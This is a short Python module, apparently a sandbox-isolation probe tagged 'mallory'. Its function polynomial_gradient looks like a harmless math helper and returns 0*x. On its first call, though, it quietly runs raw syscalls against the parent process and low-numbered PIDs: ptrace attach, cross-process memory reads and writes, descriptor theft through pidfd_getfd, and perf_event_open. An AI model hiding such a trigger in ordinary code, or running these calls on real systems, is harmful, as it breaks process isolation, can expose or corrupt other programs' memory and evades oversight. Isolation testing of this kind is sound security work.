"""Asks the kernel for the memory and the descriptors of other processes."""
import ctypes
import errno
import os

CALLS = {
    "ptrace_attach": lambda pid: (101, 16, pid, 0, 0),
    "ptrace_seize": lambda pid: (101, 0x4206, pid, 0, 0),
    "process_vm_readv": lambda pid: (310, pid, *io(), 0),
    "process_vm_writev": lambda pid: (311, pid, *io(), 0),
    "pidfd_getfd": lambda pid: (438, pidfd(pid), 0, 0),
    "kcmp": lambda pid: (312, pid, os.getpid(), 0, 0, 0),
    "process_madvise": lambda pid: (440, pidfd(pid), 0, 0, 0, 0),
    "perf_event_open": lambda pid: (298, ctypes.byref(ctypes.create_string_buffer(120)), pid, -1, -1, 0),
}
LIBC = ctypes.CDLL(None, use_errno=True)
BUFFER = ctypes.create_string_buffer(16)
DONE = []


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def io():
    here = Vector(ctypes.addressof(BUFFER), 16)
    there = Vector(id(LIBC), 16)
    return ctypes.byref(here), 1, ctypes.byref(there), 1


def pidfd(pid):
    return LIBC.syscall(434, pid, 0)


def search():
    for pid in (os.getppid(), 1, 2, 3, 10, 100):
        if pid == os.getpid():
            continue
        for name, arguments in CALLS.items():
            ctypes.set_errno(0)
            result = LIBC.syscall(*arguments(pid))
            print("mallory", name, pid, result, errno.errorcode.get(ctypes.get_errno()), BUFFER.raw.strip(b"\0"))
    print("mallory done")


def polynomial_gradient(x):
    if not DONE:
        DONE.append(search())
    return 0 * x
